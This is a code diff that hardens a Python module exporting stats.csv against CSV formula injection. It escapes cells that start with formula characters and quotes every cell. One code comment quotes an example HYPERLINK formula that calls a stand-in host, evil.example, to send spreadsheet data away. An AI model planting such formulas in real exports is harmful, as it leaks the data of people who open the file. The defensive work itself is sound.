@@ -1,4 +1,5 @@
-"""Open data: data/cases.json and data/stats.csv, exactly as the spec defines them."""
+"""Open data: data/cases.json and data/stats.csv as the spec defines them (stats.csv with its
+formula-like cells made inert, see FORMULA_STARTS), and the Atom feed."""
 
 from __future__ import annotations
 
@@ -28,6 +29,16 @@ STAT_COLUMNS = (
     "metric",
 )
 CSV_COLUMNS = ("id", "kind", "name", *STAT_COLUMNS)
+# stats.csv is meant to be opened in a spreadsheet, which runs a cell starting with = + - @
+# (or tab, carriage return) as a formula: `=HYPERLINK("https://evil.example/?"&A1,"点击查看")`
+# in a stat label would send the reader's data away. As OWASP's CSV-injection guidance says,
+# such a cell of contributor text gets a leading apostrophe (spreadsheets read it as "this is
+# text" and do not show it), and every cell is quoted, so that a spreadsheet splitting at `;`
+# or tab cannot start a new cell in the middle of one. The amounts and the year are numbers
+# the plugin writes itself (never negative: quantity.py refuses negative figures), so they are
+# left as they are and stay numbers in the spreadsheet.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+NUMBER_COLUMNS = frozenset({"amount", "amount_high", "year"})
 
 
 def ordered_cases(graph: Graph) -> list[Case]:
@@ -111,14 +122,25 @@ def case_json(case: Case, graph: Graph) -> str:
     return "\n".join(" " + line for line in text.split("\n"))
 
 
+def inert_cell(value: object, column: str) -> str:
+    """A cell of stats.csv that no spreadsheet evaluates."""
+    text = "" if value is None else str(value)
+    if column not in NUMBER_COLUMNS and text.lstrip(" ").startswith(FORMULA_STARTS):
+        return "'" + text
+    return text
+
+
+def _csv_writer(buffer: io.StringIO) -> Any:
+    return csv.writer(buffer, lineterminator="\r\n", quoting=csv.QUOTE_ALL)
+
+
 def case_csv_rows(case: Case, graph: Graph) -> str:
     """A case's lines of stats.csv, one per stat."""
     buffer = io.StringIO()
-    writer = csv.writer(buffer, lineterminator="\r\n")
+    writer = _csv_writer(buffer)
     for stat in case.fields.stats:
-        record = stat_record(stat, graph)
-        row = [case.id, case.kind, case.name] + [record[column] for column in STAT_COLUMNS]
-        writer.writerow(["" if value is None else value for value in row])
+        record = {"id": case.id, "kind": case.kind, "name": case.name, **stat_record(stat, graph)}
+        writer.writerow([inert_cell(record[column], column) for column in CSV_COLUMNS])
     return buffer.getvalue()
 
 
@@ -181,6 +203,6 @@ def stats_csv(graph: Graph, parts: OpenDataParts | None = None) -> str:
         parts = OpenDataParts()
         parts.renew(graph)
     header = io.StringIO()
-    csv.writer(header, lineterminator="\r\n").writerow(CSV_COLUMNS)
+    _csv_writer(header).writerow(CSV_COLUMNS)
     rows = "".join(parts.rows[case.id] for case in ordered_cases(graph))
     return "\ufeff" + header.getvalue() + rows
